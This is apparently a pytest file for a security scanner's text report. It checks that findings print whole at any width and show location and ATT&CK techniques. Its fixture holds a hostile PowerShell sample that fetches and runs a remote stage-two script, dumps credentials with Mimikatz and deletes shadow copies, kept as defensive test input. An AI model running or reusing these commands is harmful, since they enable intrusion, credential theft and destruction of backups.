"""The text report: every finding whole (id, title, where, matched text), on a terminal of any width and in a pipe."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

from inspector.cli.report import render_verdict, report_console
from inspector.model import Verdict
from tests.timing import GIVE_UP_S

BIN = Path(sys.executable).parent / "inspector"
SCRIPT = ("$u = 'http://203.0.113.7/stage2.ps1'\n"
          "IEX (New-Object Net.WebClient).DownloadString($u); Invoke-Mimikatz -DumpCreds\n"
          "vssadmin delete shadows /all /quiet\n")


def scan(path: Path, *args: str, columns: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_") and k != "COLUMNS"}
    env["INSPECTOR_FETCH"] = "false"
    if columns is not None:
        env["COLUMNS"] = columns
    return subprocess.run([str(BIN), "scan", *args, str(path)], capture_output=True, text=True, env=env, timeout=GIVE_UP_S)


@pytest.fixture(scope="module")
def flagged(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Verdict]:
    path = tmp_path_factory.mktemp("report") / "stage1.ps1"
    path.write_text(SCRIPT)
    verdict = Verdict.model_validate(json.loads(scan(path, "--json").stdout))
    assert sum(1 for f in verdict.findings if f.snippet) >= 3
    return path, verdict


@pytest.mark.parametrize("columns", [None, "80", "40"])
def test_piped_report_shows_every_finding_whole(flagged: tuple[Path, Verdict], columns: str | None):
    path, verdict = flagged
    result = scan(path, columns=columns)
    assert result.returncode == 1, result.stderr
    lines = result.stdout.splitlines()
    assert "…" not in result.stdout
    for finding in verdict.findings:
        assert any(finding.id in line and finding.title in line for line in lines), finding.id
        for snippet_line in filter(str.strip, (finding.snippet or "").splitlines()):
            assert f"| {snippet_line}" in result.stdout, finding.id
    assert all(line == line.rstrip() for line in lines)  # no padding to a width in a pipe


@pytest.mark.parametrize("width", [60, 80, 200])
def test_terminal_report_wraps_at_the_terminal_width_without_cutting(flagged: tuple[Path, Verdict], width: int):
    _, verdict = flagged
    out = io.StringIO()
    render_verdict(verdict, Console(file=out, force_terminal=True, width=width, color_system=None))
    text = out.getvalue()
    assert all(len(line) <= width for line in text.splitlines())
    words = " ".join(text.split())
    assert "…" not in text
    for finding in verdict.findings:
        assert finding.id in text and " ".join(finding.title.split()) in words
        assert " ".join((finding.snippet or "").split())[:40] in words.replace("| ", "")


def test_the_report_console_follows_the_stream():
    assert report_console(stream_is_terminal=False).soft_wrap
    assert not report_console(stream_is_terminal=True).soft_wrap


def test_a_finding_says_where_it_is_and_its_attack_techniques(flagged: tuple[Path, Verdict]):
    path, verdict = flagged
    out = scan(path).stdout
    located = next(f for f in verdict.findings if f.location and f.location.line and f.attack)
    assert f"at {path.name}:{located.location.line}  ATT&CK {', '.join(located.attack)}" in out  # type: ignore[union-attr]
